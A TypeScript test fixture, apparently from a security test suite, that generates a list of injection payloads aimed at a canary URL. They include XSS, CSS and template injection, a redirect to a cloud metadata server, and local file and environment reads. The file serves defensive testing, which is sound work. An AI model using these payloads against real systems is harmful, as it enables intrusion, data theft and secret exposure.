/** Text that would do harm if any part of the service took it for more than text; `short` is for fields of at most 30 characters. */
export interface Payload {
  name: string;
  text: string;
  short: string;
}

/** The payloads of section D, leading to the canary's address. */
export function payloadsFor(url: string): Payload[] {
  const host = url.replace('http:', '');
  return [
    { name: 'D1 script', text: `<script>document.body.innerHTML='PW'+'N'</script>`, short: '<script>alert(1)</script>' },
    { name: 'D2 img', text: `<img src=${url}><iframe src=${url}></iframe>`, short: '<img src=x onerror=alert()>' },
    { name: 'D2 object', text: `<object data=${url}></object><embed src=${url}>`, short: '<object data=//c>' },
    {
      name: 'D2 link',
      text: `<link rel=stylesheet href=${url}><link rel=prefetch href=${url}>`,
      short: '<link rel=prefetch href=//c>',
    },
    { name: 'D2 base', text: `<base href=${url}/><video poster=${url}></video>`, short: '<base href=//c>' },
    { name: 'D2 input', text: `<form action=${url}><input type=image src=${url} autofocus>`, short: '<input autofocus>' },
    {
      name: 'D3 refresh',
      text: `<meta http-equiv=refresh content="0;url=${url}">`,
      short: '<meta http-equiv=refresh>',
    },
    {
      name: 'D3 refresh to a metadata server',
      text: '<meta http-equiv=refresh content="0;url=http://169.254.169.254/latest/">',
      short: '<meta http-equiv="refresh">',
    },
    {
      name: 'D4 style',
      text: `</style><style>@import url(${url});*{background:url(${url})}`,
      short: '</style><style>*{color:red}',
    },
    {
      name: 'D4 font',
      text: `<style>@font-face{font-family:x;src:url(${url})}p{font-family:x}`,
      short: '</style><style>p{top:0}',
    },
    { name: 'D4 css text', text: `";}*{background:url(${url})}/*`, short: `";}*{background:url(//c)}/*` },
    { name: 'D5 file', text: 'file:///etc/passwd', short: 'file:///etc/passwd' },
    { name: 'D5 file frame', text: '<iframe src="FILE:///etc/passwd"></iframe>', short: '<iframe src=file:///etc>' },
    {
      name: 'D5 share',
      text: '\\\\localhost\\etc\\passwd <img src=file://localhost/proc/self/environ>',
      short: '\\\\localhost\\etc',
    },
    { name: 'D5 view-source', text: 'view-source:file:///etc/passwd', short: 'view-source:file:///etc' },
    { name: 'D5 chrome', text: '<iframe src=chrome://settings></iframe>', short: 'chrome://settings' },
    { name: 'D5 blob', text: '<iframe src=filesystem:http://x/a></iframe><img src=blob:x>', short: '<img src=blob:x/y>' },
    {
      name: 'D7 svg',
      text: `<svg onload=alert(1)><image href=${host} /><use href=${host}#a /></svg>`,
      short: '<svg onload=alert(1)>',
    },
    {
      name: 'D7 foreignObject',
      text: `<svg><foreignObject><iframe src=${url}></iframe></foreignObject></svg>`,
      short: '<svg><foreignObject><p>',
    },
    { name: 'D8 javascript', text: 'javascript:alert(1)', short: 'javascript:alert(1)' },
    { name: 'D8 data', text: 'data:text/html,<b>x</b>', short: 'data:text/html,x' },
    { name: 'D8 link', text: `<a href="javascript:alert(1)">pay</a>`, short: '<a href=javascript:x>' },
    {
      name: 'D9 template',
      text: `{{constructor.constructor 'return process.env'}}{{{x}}}{{> @partial-block}}`,
      short: '{{{x}}}${7*7}<%= 7*7 %>',
    },
    { name: 'D9 block', text: '{{#with "s" as |x|}}{{#each this}}{{@key}}{{/each}}{{/with}}', short: '{{#each this}}{{/each}}' },
    { name: 'D10 names', text: '__proto__ constructor toHTML toJSON hasOwnProperty length', short: '__proto__' },
    { name: 'D11 lookup', text: '{{lookup (lookup this "constructor") "constructor"}}', short: '{{lookup this "x"}}' },
    { name: 'D16 attribute', text: `"><img src=${url}><p x="`, short: `"><img src=//c>` },
    { name: 'D16 handler', text: `' onmouseover='alert(1)' style='background:url(${url})`, short: `' onload='alert(1)` },
  ];
}
